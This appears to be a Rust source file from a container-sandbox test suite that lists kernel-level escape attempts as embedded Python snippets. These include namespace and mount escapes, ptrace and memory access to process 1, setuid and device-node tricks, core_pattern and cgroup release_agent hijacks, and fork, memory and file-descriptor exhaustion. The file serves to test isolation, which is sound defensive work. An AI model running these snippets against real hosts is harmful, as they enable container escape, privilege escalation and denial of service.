//! The kernel and the resources of the machine.
//!
//! Numbers of system calls are those of x86-64. Under gVisor some of them concern only the sandbox's own kernel; these attacks
//! are marked, and count there only if the host shows an effect.

use crate::table::{Attack, Effect, Group, claimed, effect};

pub(crate) const ATTACKS: &[Attack] = &[
    // Namespaces.
    tries("unshare: a user namespace", "succeeds(272, 0x10000000)").own_kernel(),
    tries("unshare: a mount namespace", "succeeds(272, 0x20000)"),
    tries("unshare: a network namespace", "succeeds(272, 0x40000000)"),
    tries("unshare: a pid namespace", "succeeds(272, 0x20000000)"),
    tries("unshare: a UTS and an IPC namespace", "succeeds(272, 0x4000000); succeeds(272, 0x8000000)"),
    tries("unshare: a cgroup and a time namespace", "succeeds(272, 0x2000000); succeeds(272, 0x80)").own_kernel(),
    tries("clone and clone3 with a user namespace", "
flags = struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
for result in (syscall(435, flags, 88), syscall(56, 0x10000000 | 17, 0, 0, 0, 0)):
    if result == 0: os._exit(0)
    if result > 0: got(result)").own_kernel(),
    tries("unshare from the shell, as root of a user namespace", "
code, output = sh('unshare -Urmpf --mount-proc sh -c \"id -u; mount -t tmpfs x /mnt && echo mounted\"')
if 'mounted' in output: got(output)").own_kernel(),
    tries("the namespaces of process 1 and of its parents", "
for kind, flag in (('mnt', 0x20000), ('pid', 0x20000000), ('net', 0x40000000), ('uts', 0x4000000), ('ipc', 0x8000000), ('user', 0x10000000), ('cgroup', 0x2000000)):
    for process in (1, 2, os.getppid()):
        try: handle = os.open(f'/proc/{process}/ns/{kind}', os.O_RDONLY)
        except OSError as error: print(error); continue
        succeeds(308, handle, flag)"),
    tries("a handle of a process used as a namespace", "
handle = syscall(434, 1, 0)
if handle >= 0: succeeds(308, handle, 0x20000 | 0x40000000)"),
    // Mounts.
    tries("mount: tmpfs, proc, sysfs and cgroup", "for kind in (b'tmpfs', b'proc', b'sysfs', b'cgroup', b'cgroup2', b'devtmpfs', b'debugfs', b'securityfs'): os.makedirs('/tmp/m' + N, exist_ok=True); succeeds(165, b'x', f'/tmp/m{N}'.encode(), kind, 0, 0)"),
    tries("mount: bind, overlay and remount", "
for source, target, kind, flags in ((b'/', b'/mnt', b'', 4096), (b'/proc', b'/mnt', b'', 4096 | 16384), (b'x', b'/mnt', b'overlay', 0), (b'x', b'/', b'', 32), (b'x', b'/etc/bottle', b'', 32 | 4096), (b'x', b'/proc', b'', 32)): succeeds(165, source, target, kind, flags, b'lowerdir=/etc,upperdir=/tmp,workdir=/tmp')"),
    tries("mount: the newer calls", "succeeds(428, -100, b'/', 1); succeeds(430, b'tmpfs', 0); succeeds(432, 3, 0, 0); succeeds(442, -100, b'/', 0, b'\\0' * 32, 32)"),
    tries("unmount what covers a file", "for path in (b'/etc/bottle', b'/etc/bottle/current-config', b'/proc/kcore', b'/proc/keys', b'/proc/sys', b'/sys', b'/etc/resolv.conf', b'/etc/hosts'): succeeds(166, path, 2)"),
    tries("pivot_root and chroot", "succeeds(155, b'/', b'/tmp'); succeeds(161, b'/proc/1/root'); succeeds(161, b'/tmp')"),
    tries("a mounted file system of the image's own making", "
write(f'/tmp/image{N}', b'\\0' * 65536)
for device in ('loop0', 'loop1', 'loop-control', 'fuse', 'nbd0', 'mapper/control'):
    try: got(os.open(f'/dev/{device}', os.O_RDWR))
    except OSError as error: print(error)").own_kernel(),
    // Processes.
    tries("ptrace of process 1", "succeeds(101, 16, 1, 0, 0); succeeds(101, 0x4206, 1, 0, 0)"),
    tries("the memory of process 1", "
buffer = ctypes.create_string_buffer(64)
vector = struct.pack('QQ', ctypes.addressof(buffer), 64)
remote = struct.pack('QQ', 0x400000, 64)
succeeds(310, 1, vector, 1, remote, 1, 0); succeeds(311, 1, vector, 1, remote, 1, 0)
try: got(os.open('/proc/1/mem', os.O_RDWR))
except OSError as error: print(error)"),
    tries("files of process 1", "
handle = syscall(434, 1, 0)
if handle >= 0:
    for number in range(6): succeeds(438, handle, number, 0)
for path in ('/proc/1/root/etc/shadow', '/proc/1/cwd/x', '/proc/1/fd/0', '/proc/1/map_files'):
    try: got(os.listdir(path) if os.path.isdir(path) else os.open(path, os.O_RDONLY))
    except OSError as error: print(error)").own_kernel(),
    tries("signals to every process, and to process 1", "
for number in (9, 15, 19):
    try: os.kill(1, number); got(number)
    except OSError as error: print(error)"),
    tries("a comparison of kernel pointers", "succeeds(312, os.getpid(), 1, 0, 0, 0)"),
    // System calls that reach deep into the kernel.
    tries("bpf", "allowed(321, 0, b'\\0' * 72, 72); allowed(321, 5, b'\\0' * 72, 72)"),
    tries("perf events", "succeeds(298, struct.pack('IIQQQQQ', 1, 112, 0, 0, 0, 0, 1) + b'\\0' * 72, 0, -1, -1, 0); succeeds(298, struct.pack('IIQQQQQ', 0, 112, 0, 0, 0, 0, 1) + b'\\0' * 72, -1, 0, -1, 0)"),
    tries("userfaultfd", "
succeeds(323, 0); succeeds(323, 1)
try: got(os.open('/dev/userfaultfd', os.O_RDWR))
except OSError as error: print(error)"),
    tries("io_uring", "allowed(425, 8, b'\\0' * 120); allowed(426, -1, 0, 0, 0, 0, 0); allowed(427, -1, 0, 0, 0)").own_kernel(),
    tries("keyrings of the kernel", "allowed(248, b'user', N.encode(), b'x', 1, -2); allowed(248, b'user', N.encode(), b'x', 1, -4); allowed(249, b'user', N.encode(), 0, -3); allowed(250, 1, b'x'); allowed(250, 0, -3, 1)").own_kernel(),
    tries("a handle of a file that leads out of the container", "allowed(304, -100, struct.pack('IiQ', 8, 1, 2), 0); allowed(303, -100, b'/', struct.pack('Ii', 0, 0) + b'\\0' * 128, b'\\0' * 8, 0) if syscall(304, -100, struct.pack('IiQ', 8, 1, 2), 0) >= 0 else None"),
    tries("modules of the kernel", "allowed(175, b'x', 1, b''); allowed(313, 0, b'', 0); allowed(176, b'loop', 0)"),
    tries("kexec, reboot, swap and accounting", "allowed(246, 0, 0, 0, 0); allowed(320, -1, -1, 0, 0, 0); succeeds(169, 0xfee1dead, 672274793, 0, 0); allowed(167, b'/tmp/x', 0); allowed(168, b'/tmp/x'); allowed(163, b'/tmp/x')"),
    tries("the clock", "succeeds(227, 0, struct.pack('qq', 1, 0)); succeeds(164, struct.pack('qq', 1, 0), 0); succeeds(159, struct.pack('I', 1) + b'\\0' * 204); succeeds(305, 0, struct.pack('I', 1) + b'\\0' * 204)"),
    tries("the names of the machine", "succeeds(170, N.encode(), len(N)); succeeds(171, N.encode(), len(N))"),
    tries("ports of the processor", "
succeeds(172, 3); succeeds(173, 0, 10, 1)
for path in ('/dev/port', '/dev/cpu/0/msr', '/dev/mem', '/dev/kmem', '/proc/kcore'):
    try: got(os.open(path, os.O_RDONLY))
    except OSError as error: print(error)"),
    tries("the log of the kernel", "
size = syscall(103, 10, 0, 0); size = syscall(103, 3, ctypes.addressof(ctypes.create_string_buffer(4096)), 4096)
if size > 0: got(size)
try: got(os.read(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK), 100))
except OSError as error: print(error)").own_kernel(),
    tries("quotas, key maps and old calls", "allowed(179, 0x800003, b'/', 0, b'\\0' * 64); allowed(212, 0, 0, 0); allowed(180, 0, 0, 0); allowed(153); allowed(134, b'x'); allowed(156, b'\\0' * 80); allowed(139, 1, 0, 0) if False else None"),
    tries("filters and privileges taken off again", "
for option, value in ((38, 0), (22, 0), (24, 21), (28, 0x2f), (35, 6)):
    result = syscall(157, option, value, 0, 0, 0)
    if result >= 0 and option == 38: got(option)
status = sysfile('/proc/self/status')
if 'NoNewPrivs:\\t1' not in status: got(status)").own_kernel(),
    tries("capabilities taken", "
header, data = struct.pack('II', 0x20080522, 0), struct.pack('IIIIII', 0xffffffff, 0xffffffff, 0, 0x1ff, 0x1ff, 0)
succeeds(126, header, data)
status = sysfile('/proc/self/status')
if re.search(r'CapEff:\\t0*[1-9a-f]', status) or re.search(r'CapBnd:\\t0*[1-9a-f]', status): got(status)"),
    // Privileges.
    tries("another user", "
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setreuid(0, 0)):
    try: attempt(); got(os.getuid())
    except OSError as error: print(error)"),
    tries("programs that change the user", "
code, output = sh('for c in \"su -c id\" \"sudo -n id\" \"pkexec id\" \"newgrp root -c id\" \"sg root -c id\" \"doas id\" \"runuser -u root id\"; do echo | timeout 3 $c; done; find / -xdev -perm /6000 -type f -exec {} --help \\\\; 2>/dev/null | head -1')
if 'uid=0' in output or 'gid=0' in output: got(output)"),
    tries("a program of root's with the set-user-id bit", "
code, output = sh('cp /bin/sh /tmp/suid$N; chmod 6755 /tmp/suid$N; chown 0:0 /tmp/suid$N; /tmp/suid$N -p -c id; setpriv --reuid 0 id; capsh --uid=0 -- -c id; setcap cap_net_raw+ep /tmp/suid$N; cp /usr/bin/python3 /tmp/py$N; setcap all+ep /tmp/py$N && echo capable')
if 'uid=0' in output or 'capable' in output: got(output)"),
    tries("device nodes", "
for name, kind, device in (('sda', 0o60666, os.makedev(8, 0)), ('mem', 0o20666, os.makedev(1, 1)), ('kmsg', 0o20666, os.makedev(1, 11)), ('fuse', 0o20666, os.makedev(10, 229)), ('loop', 0o60666, os.makedev(7, 0))):
    try: os.mknod(f'/tmp/{name}{N}', kind, device); got(name)
    except OSError as error: print(error)
for path in pathlib.Path('/dev').iterdir():
    if path.name not in ('null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx', 'pts', 'shm', 'mqueue', 'fd', 'stdin', 'stdout', 'stderr', 'core', 'net', 'console'): got(path)").own_kernel(),
    tries("files of the host that are mounted, opened for writing", "
for line in sysfile('/proc/self/mountinfo').splitlines():
    path = line.split(' ')[4]
    # The file is only opened, so that a weakened bottle does no harm.
    if os.path.isfile(path):
        try: got(os.open(path, os.O_WRONLY | os.O_APPEND))
        except OSError as error: print(error)"),
    tries("as root: device nodes", "
for name, kind, device in (('sda', 0o60666, os.makedev(8, 0)), ('mem', 0o20666, os.makedev(1, 1)), ('kmsg', 0o20666, os.makedev(1, 11)), ('loop', 0o60666, os.makedev(7, 0))):
    try: os.mknod(f'/tmp/{name}{N}', kind, device); os.open(f'/tmp/{name}{N}', os.O_RDWR); got(name)
    except OSError as error: print(error)").as_root(),
    tries("as root: mounts, namespaces and modules", "for kind in (b'tmpfs', b'proc', b'cgroup', b'cgroup2', b'sysfs'): succeeds(165, b'x', b'/mnt', kind, 0, 0)
for flag in (0x20000, 0x40000000, 0x20000000, 0x4000000): succeeds(272, flag)
allowed(175, b'x', 1, b''); succeeds(161, b'/tmp')").as_root(),
    tries("as root: the files that only the host may read", "
for path in ('/proc/kcore', '/dev/mem', '/proc/sysrq-trigger', '/sys/kernel/security', '/proc/1/root/../../../etc/machine-id', '/sys/firmware/dmi', '/sys/kernel/debug', '/proc/kallsyms'):
    try:
        if os.path.isdir(path): listed = os.listdir(path); got(path) if listed else None
        else: data = os.read(os.open(path, os.O_RDONLY), 4096); got(path) if data.strip(b'0 \\n') and path not in ('/proc/kallsyms',) else None
    except OSError as error: print(error)").as_root(),
    // Settings of the kernel.
    harms("the program that the kernel runs for a core dump", "for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/kernel/hotplug', '/sys/kernel/uevent_helper', '/proc/sys/fs/binfmt_misc/register'): write(path, f'|/tmp/{N}')"),
    harms("settings of the whole machine", "for path, value in (('vm/drop_caches', '3'), ('kernel/hostname', N), ('kernel/domainname', N), ('net/ipv4/ip_forward', '1'), ('kernel/randomize_va_space', '0'), ('kernel/panic', '7'), ('fs/protected_symlinks', '0'), ('net/ipv4/ping_group_range', '0 1000'), ('kernel/yama/ptrace_scope', '0'), ('kernel/ns_last_pid', '7'), ('user/max_user_namespaces', '7777')): write(f'/proc/sys/{path}', value)"),
    harms("as root: settings of the whole machine", "for path, value in (('kernel/core_pattern', f'|/tmp/{N}'), ('kernel/modprobe', f'/tmp/{N}'), ('kernel/hostname', N), ('kernel/domainname', N), ('vm/overcommit_memory', '1'), ('kernel/panic', '7'), ('fs/protected_symlinks', '0'), ('kernel/randomize_va_space', '0')): write(f'/proc/sys/{path}', value)
succeeds(170, N.encode(), len(N))").as_root().own_kernel(),
    harms("the magic key", "write('/proc/sysrq-trigger', 'h'); write('/proc/sys/kernel/sysrq', '1')"),
    harms("control groups", "
for path in pathlib.Path('/sys/fs/cgroup').glob('**/*') if os.path.isdir('/sys/fs/cgroup') else ():
    if path.name in ('pids.max', 'memory.max', 'memory.limit_in_bytes', 'cpu.max', 'release_agent', 'notify_on_release', 'cgroup.procs', 'devices.allow', 'cgroup.subtree_control'): write(path, 'max')
try: os.mkdir(f'/sys/fs/cgroup/{N}'); got('cgroup')
except OSError as error: print(error)"),
    harms("as root: control groups", "
for path in pathlib.Path('/sys/fs/cgroup').glob('**/*') if os.path.isdir('/sys/fs/cgroup') else ():
    if path.name in ('pids.max', 'memory.max', 'memory.limit_in_bytes', 'cpu.max', 'release_agent', 'notify_on_release', 'devices.allow'): write(path, f'/tmp/{N}' if path.name == 'release_agent' else 'max')
try: os.mkdir(f'/sys/fs/cgroup/{N}'); got('cgroup')
except OSError as error: print(error)
succeeds(165, b'x', b'/mnt', b'cgroup', 0, b'memory')").as_root(),
    harms("priorities and limits", "
for attempt in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)), lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 22, 1 << 22)), lambda: resource.setrlimit(resource.RLIMIT_NICE, (40, 40)), lambda: os.setpriority(os.PRIO_PROCESS, 0, -5), lambda: os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-500')):
    try: attempt(); got(attempt)
    except (OSError, ValueError) as error: print(error)").own_kernel(),
    // Resources. The host reads what the container used at most.
    harms("as many processes as possible", "
count = 0
for _ in range(PIDS + 100):
    try: pid = os.fork()
    except OSError as error: print(error); break
    if pid == 0: time.sleep(60); os._exit(0)
    count += 1
print(count)
got(count) if count > PIDS else None").alone(),
    harms("as many threads as possible", "
count = 0
for _ in range(PIDS + 100):
    try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError as error: print(error); break
    count += 1
print(count)
got(count) if count > PIDS else None").own_kernel().alone(),
    harms("more memory than its limit", "
pid = os.fork()
if pid == 0:
    kept = []
    for _ in range(MEMORY // (32 << 20) * 2): kept.append(bytearray(b'x' * (32 << 20)))
    os._exit(7)
_, status = os.waitpid(pid, 0)
print(status)
got(status) if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None").alone(),
    harms("more shared memory than its limit", "
pid = os.fork()
if pid == 0:
    try:
        with open(f'/dev/shm/{N}', 'wb') as file:
            for _ in range(MEMORY // (16 << 20) * 2): file.write(b'x' * (16 << 20))
        os._exit(7)
    except OSError as error: print(error, flush=True); os._exit(0)
_, status = os.waitpid(pid, 0)
try: os.unlink(f'/dev/shm/{N}')
except OSError: pass
got(status) if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None").alone(),
    harms("as many open files and pipes as possible", "
kept = []
try:
    for _ in range(3000000): kept.append(os.pipe())
except OSError as error: print(len(kept), error)
got(len(kept)) if len(kept) > 600000 else None").alone(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    claimed(Group::Kernel, name, program)
}

/// An attack that also counts if the host's settings changed or the container used more than its limits.
const fn harms(name: &'static str, program: &'static str) -> Attack {
    effect(Group::Kernel, name, program, Effect::Harm)
}
